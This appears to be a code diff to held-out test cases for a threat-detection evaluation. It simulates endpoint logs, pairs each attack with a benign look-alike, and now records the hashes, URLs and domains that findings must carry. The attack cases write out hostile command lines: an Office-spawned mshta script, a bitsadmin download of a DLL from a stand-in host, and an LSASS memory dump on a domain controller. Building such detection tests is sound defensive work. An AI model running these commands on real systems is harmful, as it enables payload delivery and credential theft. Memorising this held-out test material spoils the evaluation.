@@ -5,6 +5,10 @@ import type { World } from '../held-out-world.ts';
 const SECOND = 1000;
 const MINUTE = 60 * SECOND;
 const EXCEL = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE';
+/** Hashes the findings must carry (FileHash entities), so they are whole SHA256 values. */
+const MSHTA_SHA256 = '5f2b7a4e9c1d3b8a6e0f4c2d1b9a8e7f6c5d4b3a2918f7e6d5c4b3a29180f7e6';
+const DUMPER_SHA256 = '9a8b7c6d5e4f30211f2e3d4c5b6a79880f1e2d3c4b5a69788796a5b4c3d2e1f0';
+const TOOL_SHA256 = '0c1d2e3f4a5b6c7d8e9fa0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1';
 const CMD = 'C:\\Windows\\System32\\cmd.exe';
 const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
 /** PowerShell's -EncodedCommand takes UTF-16LE text in Base64. */
@@ -15,31 +19,39 @@ const HELD_OUT_MALWARE_SHA256 = 'e3a1c2b7d90f44a8b6c1d2e3f4a5b6c7d8e9f0a1b2c3d4e
 type Child = { readonly image: string; readonly commandLine: string; readonly sha256?: string };
 type Server = keyof World['servers'];
 
-/** Someone's laptop starts `child` from `parentImage` `hoursAgo` before the end; the laptop names the activity. */
+/**
+ * Someone's laptop starts `child` from `parentImage` `hoursAgo` before the end; the laptop names the activity,
+ * with `also` (the URL, domain or file hash the finding must carry too).
+ */
 const onALaptop =
-  (hoursAgo: number, parentImage: string, child: Child) =>
+  (hoursAgo: number, parentImage: string, child: Child, also: Entity = {}) =>
   (logs: HeldOutLogs): Entity => {
     const person = logs.world.nextPerson();
     processStart(logs, logs.world.ago(hoursAgo), person.laptop, { image: parentImage, user: person.sam }, child);
-    return { host: person.laptop.fqdn };
+    return { host: person.laptop.fqdn, ...also };
   };
 
-/** An admin's shell on a server starts `child`; the server names the activity. */
+/** An admin's shell on a server starts `child`; the server names the activity, with `also`. */
 const onServer =
-  (server: Server, hoursAgo: number, user: string, child: Child) =>
+  (server: Server, hoursAgo: number, user: string, child: Child, also: Entity = {}) =>
   (logs: HeldOutLogs): Entity => {
     const host = logs.world.servers[server];
     processStart(logs, logs.world.ago(hoursAgo), host, { image: CMD, user }, child);
-    return { host: host.fqdn };
+    return { host: host.fqdn, ...also };
   };
 
 export const ENDPOINT_CASES: HeldOutCases = {
   'office-spawns-shell': {
-    attack: onALaptop(21, EXCEL, {
-      image: 'C:\\Windows\\System32\\mshta.exe',
-      commandLine: 'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")',
-      sha256: 'aa11',
-    }),
+    attack: onALaptop(
+      21,
+      EXCEL,
+      {
+        image: 'C:\\Windows\\System32\\mshta.exe',
+        commandLine: 'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")',
+        sha256: MSHTA_SHA256,
+      },
+      { fileHash: MSHTA_SHA256 },
+    ),
     // Excel opening a hyperlink in a cell: it starts the browser.
     lookalike: onALaptop(9, EXCEL, {
       image: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
@@ -59,11 +71,16 @@ export const ENDPOINT_CASES: HeldOutCases = {
     }),
   },
   'lolbin-download': {
-    attack: onALaptop(13, CMD, {
-      image: 'C:\\Windows\\System32\\bitsadmin.exe',
-      commandLine:
-        'bitsadmin /transfer job1 /download /priority high https://paste.dropzone.example/raw/x9 C:\\Users\\Public\\x9.dll',
-    }),
+    attack: onALaptop(
+      13,
+      CMD,
+      {
+        image: 'C:\\Windows\\System32\\bitsadmin.exe',
+        commandLine:
+          'bitsadmin /transfer job1 /download /priority high https://paste.dropzone.example/raw/x9 C:\\Users\\Public\\x9.dll',
+      },
+      { url: 'https://paste.dropzone.example/raw/x9', domain: 'paste.dropzone.example' },
+    ),
     // certutil hashing an installer: the same program, no download.
     lookalike: onALaptop(35, CMD, {
       image: 'C:\\Windows\\System32\\certutil.exe',
@@ -71,10 +88,17 @@ export const ENDPOINT_CASES: HeldOutCases = {
     }),
   },
   'lsass-dump': {
-    attack: onServer('dc', 7, 'adm-x', {
-      image: 'C:\\Windows\\Temp\\pd.exe',
-      commandLine: 'pd.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp',
-    }),
+    attack: onServer(
+      'dc',
+      7,
+      'adm-x',
+      {
+        image: 'C:\\Windows\\Temp\\pd.exe',
+        commandLine: 'pd.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp',
+        sha256: DUMPER_SHA256,
+      },
+      { fileHash: DUMPER_SHA256 },
+    ),
     // An admin dumps the monitoring agent that hangs on the jump host, for the vendor.
     lookalike: onServer('jump', 40, 'dba-on-call', {
       image: 'C:\\Tools\\procdump.exe',
@@ -84,7 +108,7 @@ export const ENDPOINT_CASES: HeldOutCases = {
   'lsass-access': {
     attack: (logs) => {
       const { files } = logs.world.servers;
-      const tool = { image: 'C:\\Users\\Public\\svc.exe', user: 'adm-x', pid: 4711, sha256: 'bb22' };
+      const tool = { image: 'C:\\Users\\Public\\svc.exe', user: 'adm-x', pid: 4711, sha256: TOOL_SHA256 };
       const time = logs.world.ago(11);
       deviceEvent(logs, time, files, tool, { ActionType: 'OpenProcessApiCall', FileName: 'lsass.exe' });
       fileEvent(logs, time + 9 * SECOND, files, tool, {
@@ -92,7 +116,7 @@ export const ENDPOINT_CASES: HeldOutCases = {
         FolderPath: 'C:\\Users\\Public\\',
         SHA256: 'cc33',
       });
-      return { host: files.fqdn };
+      return { host: files.fqdn, fileHash: TOOL_SHA256 };
     },
     // Defender's scanner reads LSASS all the time; what it writes an hour later is its own scan log.
     lookalike: (logs) => {
@@ -137,7 +161,7 @@ export const ENDPOINT_CASES: HeldOutCases = {
           SHA256: HELD_OUT_MALWARE_SHA256,
         },
       );
-      return { host: victim.laptop.fqdn };
+      return { host: victim.laptop.fqdn, fileHash: HELD_OUT_MALWARE_SHA256 };
     },
     // A file with the same name and another hash on someone else's laptop.
     lookalike: (logs) => {
@@ -172,7 +196,7 @@ export const ENDPOINT_CASES: HeldOutCases = {
           ip,
         );
       }
-      return { ip, host: victim.laptop.fqdn };
+      return { ip, host: victim.laptop.fqdn, domain: 'api.cloud-sync-status.example' };
     },
     // A travel app on one laptop looks up flight times a few times a day, whenever someone opens it.
     lookalike: (logs) => {
